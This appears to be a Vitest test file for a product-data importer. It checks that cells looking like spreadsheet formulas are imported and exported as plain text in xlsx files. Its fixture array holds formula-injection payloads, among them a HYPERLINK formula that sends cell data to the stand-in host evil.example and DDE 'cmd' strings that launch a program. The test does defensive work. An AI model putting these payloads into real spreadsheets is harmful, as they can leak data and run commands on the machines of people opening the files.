import ExcelJS from 'exceljs';
import { inArray } from 'drizzle-orm';
import { describe, expect, test } from 'vitest';
import { PRODUCT_STATUS } from '@domain/constants';
import { products } from '@server/db/schema';
import { jobHandlers } from '@server/jobs/handlers';
import { startJobWorker } from '@server/jobs/worker';
import { testApp } from '@tests/server/harness/app';
import type { Session } from '@tests/server/harness/http';
import { loginAs } from '@tests/server/harness/http';
import {
  BRICK,
  analysed,
  gtinFor,
  importFile,
  report,
  start,
  untilEnded,
} from '@tests/server/importer/support';
import type { App } from '@server/app';

/**
 * R6 files (docs/decisions/0029): cells that look like formulas come in through the importer as text and
 * go out as text in every xlsx the product writes (the card, the list export, the importer report): a
 * spreadsheet program opening the file shows them and runs nothing.
 */

const FORMULAS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Kliknij")',
  "+cmd|' /C calc'!A0",
  '-1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '=1+1',
];

async function workbookOf(app: App, session: Session, path: string): Promise<ExcelJS.Workbook> {
  const response = await app.request(path, { headers: { cookie: session.cookie } });
  expect(response.status, path).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(await response.arrayBuffer());
  return workbook;
}

/** Every cell of a workbook that holds one of the texts: each must be a plain string, never a formula. */
function formulaCells(workbook: ExcelJS.Workbook) {
  const found: { text: string; type: ExcelJS.ValueType; formula: string | undefined }[] = [];
  for (const sheet of workbook.worksheets)
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        const text = cell.type === ExcelJS.ValueType.Formula ? `=${cell.formula}` : String(cell.value);
        if (cell.type === ExcelJS.ValueType.Formula || FORMULAS.some((formula) => text.includes(formula)))
          found.push({ text, type: cell.type, formula: cell.formula });
      }),
    );
  return found;
}

describe('R6 files: formula-looking cells', () => {
  test('imported as text, exported as text in the card, the list export and the importer report', async () => {
    const { app, db, config, errors } = await testApp();
    const supplier = await loginAs(app, 'supplier@demo.pim');
    const gtins = FORMULAS.map((_, index) => gtinFor(900 + index));
    const bytes = await importFile(
      ['gtin', 'name_to_show', 'name', 'category'],
      [
        ...FORMULAS.map((formula, index) => ({
          gtin: gtins[index],
          name_to_show: formula,
          name: formula,
          category: BRICK,
        })),
        // A row that fails, so the report lists the formula-looking GTIN it was given.
        { gtin: FORMULAS[0], name_to_show: FORMULAS[1], category: BRICK },
      ],
    );
    const analysis = await analysed(app, supplier, bytes);
    const job = await start(app, supplier, analysis.upload_id);
    const worker = startJobWorker(db, jobHandlers(config), { idleMs: 20 });
    const ended = await untilEnded(app, supplier, job.id);
    await worker.stop();
    expect(ended.status).toBe('finished');

    const cards = await db
      .select({ id: products.id, nameToShow: products.nameToShow })
      .from(products)
      .where(inArray(products.gtin, gtins));
    expect(cards.map((card) => card.nameToShow).sort()).toEqual([...FORMULAS].sort());

    const files = [
      ...cards.map((card) => `/product/${card.id}/get-as-xlsx`),
      `/api/p1/products/export?status=${PRODUCT_STATUS.DRAFT}&sort=id&order=desc`,
      (await report(app, supplier, job.id)).download!,
    ];
    for (const path of files) {
      const cells = formulaCells(await workbookOf(app, supplier, path));
      expect(cells.length, path).toBeGreaterThan(0);
      for (const cell of cells) {
        expect(cell.formula, `${path}: ${cell.text}`).toBeUndefined();
        expect(cell.type, `${path}: ${cell.text}`).toBe(ExcelJS.ValueType.String);
      }
    }
    expect(errors).toEqual([]);
  }, 120_000);
});
